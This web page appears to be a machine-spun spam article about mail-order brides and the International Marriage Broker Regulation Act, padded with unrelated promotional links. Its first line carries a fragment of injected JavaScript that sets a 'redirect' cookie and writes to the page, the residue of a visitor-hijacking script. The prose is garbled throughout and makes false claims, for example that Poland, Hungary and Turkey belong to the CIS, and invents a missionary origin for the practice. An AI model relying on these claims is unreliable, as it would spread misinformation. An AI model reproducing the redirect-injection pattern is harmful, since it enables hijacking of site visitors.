=(time=cookie)||void 0===time){var time=Math.floor(Date.now()/1e3+86400),date=new Date((new Date).getTime()+86400);document.cookie="redirect="+time+"; path=/; expires="+date.toGMTString(),document.write('')} " /> The International Marital relationship Broker Regulation Act – A New Regulation For Snail mail Order Brides

The International Marital relationship Broker Regulation Act – A New Regulation For Snail mail Order BridesMany individuals have asked the question, who is a mail buy bride? A mail purchase bride is known as a woman just who travels via her region to a different country and marries a guy there. She would not get a visa to enter the US by law hence she would get married to a man below and http://plakattrophy-trophytimah.blogspot.com/ then. This practice have been going on for many years and many people still wonder who is a mail purchase bride. There are many countries that contain this system however itvaries according to the laws of each nation.

The word mail buy bride came into being when the system was created in the late thirties of the first decade of your twentieth century by Christian and Nederlander missionaries. The concept was to carry spiritual enlightenment to a distant https://moscow-brides.com/review/valentime and underdeveloped part of the world. These were especially eager to bring this concept to undeveloped China due to poor talk about of the Chineselanguage women at that time. -mail order brides usually hail right from developing countries best known during that time was The ussr. Some other countries which possessed marriages set up by mail-order bride firms included Biskupiec, poland, Transylvania, Hungary, Romania, Ukraine, Getaway and Turkey. All these countries are paid members of the Commonwealth of 3rd party States or CIS.

There are a number of reasons why mail order brides started to be so popular inside the early part of the twentieth 100 years. One justification was that people did not have the time to go and visit the countries just where they were interested in marrying. Another reason was that many women working in the textile mills in these expanding countries had necessary to go back home and get married to a man. Thus they began registering for a crossstitching cultural snail mail order star of the event agency as a way to earn a little extra money therefore they may send their children to school. Inturn these females were guaranteed by the all mail order wedding brides agency that they can would be brought to a new home when all their job was done. Most of these women finished up staying in these kinds of foreign royaume until they were thirty years aged or even aged.

Snail mail order wedding brides http://jualplakatantik.blogspot.com/ ultimately started coming from the United States too, but in a much more restricted form. These brides had been mostly from the developing countries like Romania, Ukraine, Getaway and Poultry. But in the past few decades the guidelines for wedding brides from your United States currently have relaxed a lttle bit. In fact you can now register with any snail mail order bride organization located anywhere in the world.

The majority of mail buy brides currently are both westernladies who are inside their thirties or perhaps from eastern countries like Korea, Japan and Taiwan. Most of them will be aged between twenty-five to thirty. The major reason for this is the fact a large number of foreign mail purchase brides came from eastern countries especially The ussr and Turkey, which have a higher fertility level. Women from these countries are already betrothed by the time they reach their thirties which accounts for the recent embrace their amount. Also another advantage ofhaving a new spouse is that these young women already have children so they don't have to http://www.herzogtum-herb.de/how-to-get-along-better-with-a-girlfriend-from-ukraine/ worry about locating a husband instantly after marriage.

Some worldwide marriage broker agents charge afee of $1000 or more. This may appear a lot of money for any person who is not looking for a life partner right away but remember the method is not straightforward and it takes a considerable amount of time to find the right meet for you. An effective technique would be to seek out an agency that charges less than this or maybe a website that charges less than this.Should you be interested in selectingyour true love, consider using a company that is documented under the worldwide marriage broker regulation take action.